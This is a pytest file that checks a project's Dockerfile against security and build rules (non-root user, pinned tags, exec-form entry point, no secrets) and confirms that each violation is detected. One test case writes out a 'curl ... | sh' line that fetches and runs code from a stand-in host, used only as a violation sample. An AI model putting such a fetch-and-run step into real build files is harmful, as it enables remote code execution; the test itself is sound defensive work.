"""The Dockerfile keeps the rules of the house; each rule is shown to notice its violation."""

from __future__ import annotations

import fnmatch
import tomllib

import pytest

from deploy.image import ROOT, TARGET, complaints, instructions

DOCKERFILE = (ROOT / "Dockerfile").read_text()


def test_the_dockerfile_keeps_every_rule() -> None:
    """Stages, tags, user, form of the entry point, bytecode, labels, nothing unseen."""
    assert list(complaints(DOCKERFILE)) == []


@pytest.mark.parametrize(
    ("old", "new", "noticed"),
    [
        pytest.param("USER 65532:65532", "USER root", "USER", id="root"),
        pytest.param("USER 65532:65532", "USER 0", "USER", id="root-by-number"),
        pytest.param("USER 65532:65532", "", "USER", id="no-user"),
        pytest.param("USER 65532:65532", "USER rebalancer", "USER", id="user-by-name"),
        pytest.param("PYTHON=3.13-slim", "PYTHON=latest", "tag", id="latest"),
        pytest.param("FROM python:${PYTHON}\n", "FROM python\n", "tag", id="no-tag"),
        pytest.param("COPY rebalancer ./rebalancer", "COPY . .", "COPY .", id="copies-everything"),
        pytest.param("COPY rebalancer ./rebalancer", "ADD rebalancer ./rebalancer", "ADD", id="add"),
        pytest.param(
            "RUN python -m venv", "RUN curl -s https://x.example/i | sh && python -m venv", "unseen", id="curl-to-shell"
        ),
        pytest.param("-c constraints.txt .", ".", "pinned", id="unpinned"),
        pytest.param('ENTRYPOINT ["rebalancer"]', "ENTRYPOINT rebalancer", "shell form", id="shell-form"),
        pytest.param('ENTRYPOINT ["rebalancer"]', "", "ENTRYPOINT", id="no-entry-point"),
        pytest.param("-m compileall", "-m nothing", "bytecode", id="no-bytecode"),
        pytest.param("image.licenses=", "image.lic=", "licenses", id="label"),
        pytest.param("EXPOSE 8080", "ENV API_TOKEN=abc", "secret", id="secret"),
    ],
)
def test_a_violation_is_noticed(old: str, new: str, noticed: str) -> None:
    """A rule that notices nothing is none."""
    assert old in DOCKERFILE
    found = list(complaints(DOCKERFILE.replace(old, new)))
    assert any(noticed in each for each in found), found


def test_one_stage_is_noticed() -> None:
    """Compilers and caches would be shipped."""
    first = DOCKERFILE[: DOCKERFILE.rindex("FROM")]
    assert any("one stage" in each for each in complaints(first))


def test_the_entry_point_is_the_programs_command() -> None:
    """The chart gives arguments only, so the image has to name the command that the project installs, and find it."""
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    found = {each.name: each.text for each in instructions(DOCKERFILE) if each.stage == 1}
    assert found["ENTRYPOINT"] == '["rebalancer"]'
    assert project["scripts"] == {"rebalancer": "rebalancer.__main__:main"}
    assert f"PATH={TARGET}/bin:" in found["ENV"]


def test_what_is_copied_is_in_the_build_context() -> None:
    """.dockerignore lets in what the build needs, and neither history, tests nor virtual environments."""
    lines = (ROOT / ".dockerignore").read_text().split()
    assert lines[0] == "*"
    allowed = [line.removeprefix("!") for line in lines if line.startswith("!")]
    copied = [
        name for each in instructions(DOCKERFILE) if each.name == "COPY" and each.stage == 0 for name in each.text.split()[:-1]
    ]
    assert sorted(allowed) == sorted(copied)
    assert all((ROOT / name).exists() for name in copied)
    assert not any(fnmatch.fnmatch(name, pattern) for name in (".git", "tests", ".venv") for pattern in allowed)


def test_no_processor_is_named() -> None:
    """One file serves amd64 and arm64."""
    assert not [
        word for word in ("amd64", "x86_64", "arm64", "aarch64") for each in instructions(DOCKERFILE) if word in each.text
    ]


def test_the_image_runs_as_the_user_that_the_chart_names() -> None:
    """runAsUser of the chart is USER of the image, so that files belong to whom one thinks."""
    import yaml

    values = yaml.safe_load((ROOT / "deploy" / "chart" / "values.yaml").read_text())["securityContext"]
    (user,) = [each.text for each in instructions(DOCKERFILE) if each.name == "USER"]
    assert user == f"{values['runAsUser']}:{values['runAsGroup']}"
